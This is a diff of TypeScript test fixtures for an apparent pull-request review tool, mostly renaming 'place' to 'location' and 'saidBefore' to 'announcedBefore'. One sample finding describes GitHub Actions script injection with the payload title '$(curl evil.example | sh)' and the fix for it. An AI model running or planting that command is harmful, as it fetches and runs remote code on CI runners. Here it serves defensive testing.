@@ -1,6 +1,6 @@
 /** Conclusions for tests of what is rendered: a typical one of each kind, and a generator of any. */
 import fc from 'fast-check'
-import type { Finding, Place } from '../../../shared/findings/finding.ts'
+import type { Finding, Location } from '../../../shared/findings/finding.ts'
 import type { Conclusion, LensOutcome } from '../../../shared/verdict/conclusion.ts'
 
 export const HEAD = '9b9189b2c4d6e8f00112233445566778899aabbc'
@@ -15,7 +15,7 @@ export function finding(changes: Partial<Finding> = {}): Finding {
     title: 'An AWS access key id is in the added lines',
     why: 'Whoever can read the repository can act as this user in the AWS account. It stays in the history when the line is removed.',
     clears: 'Deactivate the key in IAM, then read it from the environment or from Secrets Manager.',
-    place: { kind: 'lines', path: 'src/archive.js', side: 'RIGHT', startLine: 12, line: 12, inDiff: true },
+    location: { kind: 'lines', path: 'src/archive.js', side: 'RIGHT', startLine: 12, line: 12, inDiff: true },
     quote: "accessKeyId: 'AKIA…[redacted]'",
     fenced: true,
     originHead: HEAD,
@@ -35,7 +35,14 @@ const findings: readonly Finding[] = [
     why: 'Anyone can open an issue titled `$(curl evil.example | sh)`, and the runner executes it:\n\n```yaml\nrun: echo $\u007b{ github.event.issue.title }}\n```',
     clears:
       'Pass it through the environment:\n\n```yaml\nenv:\n  TITLE: $\u007b{ github.event.issue.title }}\nrun: echo "$TITLE"\n```',
-    place: { kind: 'lines', path: '.github/workflows/greet.yml', side: 'RIGHT', startLine: 9, line: 11, inDiff: true },
+    location: {
+      kind: 'lines',
+      path: '.github/workflows/greet.yml',
+      side: 'RIGHT',
+      startLine: 9,
+      line: 11,
+      inDiff: true,
+    },
     fenced: false,
   }),
   finding({
@@ -46,7 +53,7 @@ const findings: readonly Finding[] = [
     title: 'The description lacks a required section',
     why: 'The template asks for "How it was tested".',
     clears: 'Add the section "How it was tested" to the description; no push is needed.',
-    place: { kind: 'pull_request' },
+    location: { kind: 'pull_request' },
     quote: '',
     fenced: false,
     originHead: EARLIER,
@@ -74,7 +81,7 @@ export const CHANGES_REQUESTED: Conclusion = {
   verdict: 'changes_requested',
   incompleteReasons: [],
   findings,
-  saidBefore: ['f3'.repeat(32)],
+  announcedBefore: ['f3'.repeat(32)],
   dispositions: [
     { finding: findings[2] ?? finding(), verb: 'still_present' },
     {
@@ -111,7 +118,7 @@ export const PASS: Conclusion = {
   round: 3,
   verdict: 'pass',
   findings: [],
-  saidBefore: [],
+  announcedBefore: [],
   dispositions: [{ finding: finding({ originHead: EARLIER }), verb: 'fixed' }],
   rejected: [],
   merged: 0,
@@ -128,7 +135,7 @@ export const INCOMPLETE: Conclusion = {
     'The lens correctness did not read: no model is configured. Set models.default in .github/muster.yml, or switch the lens off.',
   ],
   findings: findings.slice(1, 2),
-  saidBefore: [],
+  announcedBefore: [],
   dispositions: [],
   rejected: [],
   merged: 0,
@@ -161,7 +168,7 @@ export const ROUNDS_OVER: Conclusion = {
   lastFullHead: EARLIER,
   round: 0,
   findings: findings.slice(0, 1),
-  saidBefore: [],
+  announcedBefore: [],
   dispositions: [],
   rejected: [],
   merged: 0,
@@ -221,8 +228,8 @@ export const hostileText = fc
   )
   .map((parts) => parts.join(''))
 
-const place: fc.Arbitrary<Place> = fc.oneof(
-  fc.constant<Place>({ kind: 'pull_request' }),
+const location: fc.Arbitrary<Location> = fc.oneof(
+  fc.constant<Location>({ kind: 'pull_request' }),
   fc.record({ kind: fc.constant('file' as const), path: hostileText }),
   fc.record({
     kind: fc.constant('lines' as const),
@@ -241,7 +248,7 @@ const anyFinding = fc
     why: hostileText,
     clears: hostileText,
     rule: hostileText,
-    place,
+    location,
   })
   .map((changes) => finding(changes))
 
@@ -265,7 +272,7 @@ export const anyConclusion: fc.Arbitrary<Conclusion> = fc
       verdict,
       baseRef,
       findings: numbered,
-      saidBefore: said.filter((at) => at < numbered.length).map(digestLike),
+      announcedBefore: said.filter((at) => at < numbered.length).map(digestLike),
       dispositions: numbered.slice(0, 3).map((one) => ({ finding: one, verb: 'not_looked_at' as const })),
       rejected: [{ lens: 'secrets', rule: 'r', title: reason, path: reason, reason: 'quote_empty' as const }],
       leftOut: [{ path: reason, reason }],
